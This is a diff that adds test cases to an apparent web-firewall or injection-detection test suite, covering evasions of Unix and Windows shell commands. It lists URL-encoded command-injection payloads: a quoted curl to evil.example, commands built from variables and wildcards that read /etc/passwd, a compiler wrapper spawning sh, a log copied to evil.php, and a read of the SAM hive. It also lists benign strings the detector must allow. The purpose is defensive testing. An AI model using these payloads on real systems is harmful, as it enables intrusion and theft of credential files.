@@ -160,3 +160,48 @@ describe('Node.js and template injection (NODE-100, NODE-130, NODE-140, NODE-150
     expectAllowed(json({ note: value }));
   });
 });
+
+describe('Unix shell evasions (RCE-100, RCE-140, RCE-150, RCE-194 to RCE-199)', () => {
+  it.each([
+    ['a binary path without its leading slash after a pipe', '%7Cusr%2Fbin%2Fid', 'RCE-100'],
+    ['an unset variable before the command word', '%7C%24u%20wget%20test', 'RCE-100'],
+    ['a quoted command word after a semicolon', "%3B'curl'%20http://evil.example", 'RCE-100'],
+    ['a Windows dir of a drive root with a forward slash', '%7C%20dir%20c%3A%2F', 'RCE-140'],
+    [
+      'a command assembled from variables',
+      'a%3D%2Fetc%26%26b%3D%2Fpasswd%26%26c%3Dcat%26%26%24c%20%24a%24b',
+      'RCE-194',
+    ],
+    ['wildcards standing in for a binary and a file', 'x%3B%2Fbin%2Fca%3F%20%2Fet*%2F*wd', 'RCE-195'],
+    ['a walk into /etc in two cd steps', 'cd%20%2F%3Bcd%20etc%3Bfold%20passwd', 'RCE-196'],
+    [
+      'find running a command on a system directory',
+      'find%20%2Fetc%20-name%20passwd%20-exec%20cat%20%7B%7D%20%2B',
+      'RCE-197',
+    ],
+    ['a compiler wrapper running a shell', '%3Bc89%20-wrapper%20sh%2C-c%2Cid%20.', 'RCE-197'],
+    ['a here-string into an interpreter', '%3Birb%3C%3C%3C1%2B2', 'RCE-197'],
+    ['a log file copied to a PHP script', '%3Bcp%20%2Fvar%2Flog%2Fapache2%2Ferror.log%20evil.php', 'RCE-198'],
+  ])('blocks %s at sensitivity 70', (_name, query, ruleId) => {
+    expectDetected(get(`/run?arg=${query}`), ruleId);
+  });
+
+  it.each([
+    ['a command word in brace expansion', '%7B%2Cifconfig%7D', 'RCE-199'],
+    ['an alias definition chained to its use', 'alias%20a%3Dcurl%26a%20example.com', 'RCE-199'],
+    ['a process substitution', '%3C(cat%20file)', 'RCE-199'],
+    ['a Windows command line with an environment variable path', 'type%20%25SYSTEMROOT%25%5Crepair%5CSAM', 'RCE-150'],
+  ])('challenges %s at sensitivity 70', (_name, query, ruleId) => {
+    expectDetected(get(`/run?arg=${query}`), ruleId);
+  });
+
+  it.each([
+    ['npm documentation chaining commands', 'Run `cd my-app && npm install && npm test` to get started.'],
+    ['a glob of JavaScript sources', 'Lint every file under src/**/*.{js,ts} with `eslint .`'],
+    ['a trailing-star glob of binaries', 'Remove the old copies with rm /usr/local/bin/node* first.'],
+    ['copying a PHP sample configuration', 'Copy wp-config-sample.php to wp-config.php and edit it.'],
+    ['a language list in braces', '{en,fr}'],
+  ])('allows %s', (_name, value) => {
+    expectAllowed(json({ note: value }));
+  });
+});
